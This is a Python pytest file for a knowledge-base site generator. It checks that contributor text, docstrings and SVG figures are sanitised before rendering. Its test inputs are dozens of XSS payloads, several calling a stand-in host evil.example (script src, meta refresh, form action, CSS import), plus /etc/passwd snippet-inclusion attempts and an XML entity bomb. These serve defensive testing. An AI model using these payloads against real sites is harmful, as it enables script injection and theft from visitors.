"""Nothing that a contributor writes runs, loads, frames or breaks a page, wherever it is written."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import markdown
import msgspec
import pytest
import yaml
from sitecheck import dangers, facts_of

from kbtool.exampleindex import ExampleIndex
from kbtool.load import load
from kbtool.model import Concept, KnowledgeBase
from kbtool.render import Catch, Library, Outcome, Page, Proof, pages_of
from kbtool.render.docstrings import safe_docstring
from kbtool.render.figure import why_unsafe

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://example.org/\"onmouseover='alert(1)')",
    "*a*{: onclick=alert(1) }",
    "text { onclick=alert(1) }",
    "# heading {: onclick=alert(1) }",
    "</div></article><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "~~~ {: onclick=alert(1) }\nx\n~~~",
    "```html\n<script>alert(1)</script>",
    "::: os\n    options:\n      show_source: true",
    '--8<-- "/etc/passwd"',
    ";--8<--\n/etc/passwd\n;--8<--",
    "{{ config }} {% include 'main.html' %}",
    "[TOC]",
    "<autoref identifier=x optional>x</autoref>",
    "$\\text{\\textless script>}$ $x$",
    "[[<script>alert(1)</script>]] [[double|<img src=x onerror=alert(1)>]]",
    "[[double|[x](javascript:alert(1))]]",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \ue0000\ue001 \ue0020\ue003",
    "---\ntitle: x\n---",
    "a: b # c",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>x</button></form>",
    "<style>@import url(https://evil.example)</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "\u202e<b>x</b>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]

# What mkdocs.yml gives the pages; mkdocstrings runs in the test of the whole site.
EXTENSIONS = ["attr_list", "toc", "tables", "pymdownx.highlight", "pymdownx.superfences"]


# The picture of a concept among its neighbours: lines between numbers, and nothing else in it.
DRAWING = re.compile(
    r'<svg class="kb-lines" viewBox="0 0 100 100" preserveAspectRatio="none" aria-hidden="true" focusable="false">'
    r'(?:<path d="[MC0-9. ]+"></path>)*</svg>'
)


def found_in(html: str) -> list[str]:
    """The dangers of a page, our own drawings left out."""
    return dangers(DRAWING.sub("", html))


def poisoned(kb: KnowledgeBase, vector: str) -> KnowledgeBase:
    """The knowledge base with the vector in every text of the published concept, its topic included."""
    text = {"zh": vector, "en": vector}
    values = msgspec.to_builtins(kb.concepts["double"])
    values |= {"name": text, "aliases": [vector], "summary": text, "explanation": text, "example": vector}
    values["requires"] = {"beta": text, vector: text}
    values["formula"] = [{"tex": "x", "where": {"x": text}}]
    values["claims"] = [{**text, "check": vector}]
    values["pitfalls"] = [{**text, "mistake": vector}]
    values["terms"] = [{"id": "half", "name": text, "text": text, "aliases": [vector]}]
    values["references"] = [{"title": vector, "authors": [vector], "year": 2000, "where": text}]
    values["attributes"] = {"cost": text}
    concept = msgspec.convert(values, Concept)
    topics = {
        id: msgspec.structs.replace(one, name=concept.name, summary=concept.summary) for id, one in kb.topics.items()
    }
    return msgspec.structs.replace(kb, concepts={**kb.concepts, "double": concept}, topics=topics)


def poisoned_pages(kb: KnowledgeBase, vector: str) -> dict[str, Page]:
    proof = Proof(
        device="cpu",
        state="failed",
        device_name=vector,
        versions={"torch": vector},
        date=vector,
        claims={vector: Outcome("failed", vector)},
        mistakes={vector: (Catch(vector, vector),)},
        output=vector,
        problems=(vector,),
    )
    return pages_of(Library(poisoned(kb, vector), {vector: {"cpu": proof}}, "en"))


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory) -> KnowledgeBase:
    from miniature import MINIATURE, write_files

    return load(write_files(tmp_path_factory.mktemp("kb"), MINIATURE)).kb


@pytest.mark.parametrize("vector", VECTORS)
def test_no_text_of_a_contributor_runs_anywhere(kb: KnowledgeBase, vector: str) -> None:
    for page in poisoned_pages(kb, vector).values():
        html = markdown.markdown(page.body, extensions=EXTENSIONS)
        assert found_in(html) == [], page.path
        matter = yaml.safe_load(page.text.removeprefix("---\n").split("\n---\n", 1)[0])
        for ours in ("hide", "ahead"):  # parts of the theme and files of the site, no text of anybody
            matter.pop(ours, None)
        assert matter.keys() <= {"title", "description"}
        # The theme puts both into the page as they are, the description into an attribute.
        assert not {"<", ">", '"'} & set("".join(matter.values()))


@pytest.mark.parametrize("vector", VECTORS)
def test_no_text_of_a_contributor_breaks_the_page_around_it(kb: KnowledgeBase, vector: str) -> None:
    html = markdown.markdown(poisoned_pages(kb, vector)["concepts/double.md"].body, extensions=EXTENSIONS)
    anchors = {"prerequisites", "formula", "explanation", "claims", "pitfalls", "code", "terms", "references"}
    assert anchors <= facts_of(html).ids
    assert "term-half" in facts_of(html).ids


def test_no_line_of_a_contributor_starts_a_line_of_the_page(kb: KnowledgeBase) -> None:
    body = poisoned_pages(kb, "a\n::: os\n--8<-- 'x'\n[TOC]\n# x\n```\n~~~\n")["concepts/double.md"].body
    for line in body.split("\n"):
        assert line == "" or line.startswith(("<div", "## ", "### ", "# a &#58;"))


@pytest.mark.parametrize("path", ["../x.py", "base/x\n::: os", "base/double.py\n    options: {}", "base/x.os"])
def test_an_example_whose_path_is_an_attack_is_documented_by_nobody(kb: KnowledgeBase, path: str) -> None:
    concept = msgspec.structs.replace(kb.concepts["double"], example=path)
    kb = msgspec.structs.replace(kb, concepts={**kb.concepts, "double": concept})
    examples = {path: ExampleIndex(path, implementations=("f",), text="def f(): ...")}
    body = pages_of(Library(kb, {}, "en", examples))["concepts/double.md"].body
    assert "def f(): ..." in body
    assert "::: examples" not in body


def test_a_docstring_is_sanitised_like_every_other_text() -> None:
    for vector in VECTORS:
        made = safe_docstring(vector)
        assert dangers(made) == [], vector
        assert "\n" not in made


def test_a_docstring_keeps_code_and_math_and_survives_stray_dollars() -> None:
    assert "<code>x</code>" in safe_docstring("Twice `x`.\n\nShapes: (N,) -> (N,)")
    assert "$\\frac$" in safe_docstring("not math: $\\frac$")


GOOD_SVG = (
    b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b"<metadata><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/></metadata>"
    b'<defs><style type="text/css">*{stroke-linejoin: round}</style><path id="a" d="M 0 0"/></defs>'
    b'<g clip-path="url(#p)" style="fill: url(#g)"><use xlink:href="#a"/>'
    b'<image xlink:href="data:image/png;base64,iVBORw0KGgo="/><text>x</text></g>%s</svg>'
)


def test_a_drawing_passes() -> None:
    assert why_unsafe(GOOD_SVG.replace(b"%s", b"")) == ""


def test_what_matplotlib_draws_passes() -> None:
    import matplotlib

    matplotlib.use("svg")
    from matplotlib.figure import Figure

    from kbtool.verify.repeatable import figure_to_svg

    figure = Figure()
    axes = figure.subplots()
    axes.plot([0, 1], [1, 0], "o-", label="a < b")
    axes.imshow([[0, 1], [1, 0]])
    axes.fill_between([0, 1], [0, 1], hatch="/")
    axes.legend()
    assert why_unsafe(figure_to_svg(figure).encode()) == ""


@pytest.mark.parametrize(
    "part",
    [
        "<script>alert(1)</script>",
        '<g onload="alert(1)"/>',
        '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"><text>x</text></a>',
        '<use href="https://evil.example/x.svg#a"/>',
        '<image href="data:image/svg+xml,x"/>',
        '<image href="javascript:alert(1)"/>',
        "<foreignObject><div/></foreignObject>",
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        "<metadata><script>alert(1)</script></metadata>",
        "<style>@import url(https://evil.example)</style>",
        "<style>*{fill: url(https://evil.example)}</style>",
        '<g style="fill: url(https://evil.example)"/>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        "<unclosed>",
    ],
)
def test_a_figure_that_is_more_than_a_drawing_is_refused(part: str) -> None:
    assert why_unsafe(GOOD_SVG.replace(b"%s", part.encode()))


def test_entities_are_refused_before_they_are_expanded() -> None:
    bomb = b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    assert why_unsafe(bomb) == "it declares entities"


def test_data_of_the_graph_stays_data(kb: KnowledgeBase) -> None:
    from kbtool.render import graph_json

    vector = "</script><script>alert(1)</script>"
    nodes = json.loads(graph_json(Library(poisoned(kb, vector), {}, "en")))["nodes"]
    assert nodes["name_en"][nodes["id"].index("double")] == vector


def test_an_address_for_editing_is_quoted(miniature: Callable[..., Path]) -> None:
    library = Library(load(miniature()).kb, {}, "en", edit_base="https://example.org/edit/")
    concept = msgspec.structs.replace(library.kb.concepts["double"], path='concepts/"><script>.yml')
    kb = msgspec.structs.replace(library.kb, concepts={**library.kb.concepts, "double": concept})
    body = pages_of(replace(library, kb=kb))["concepts/double.md"].body
    assert found_in(markdown.markdown(body, extensions=EXTENSIONS)) == []
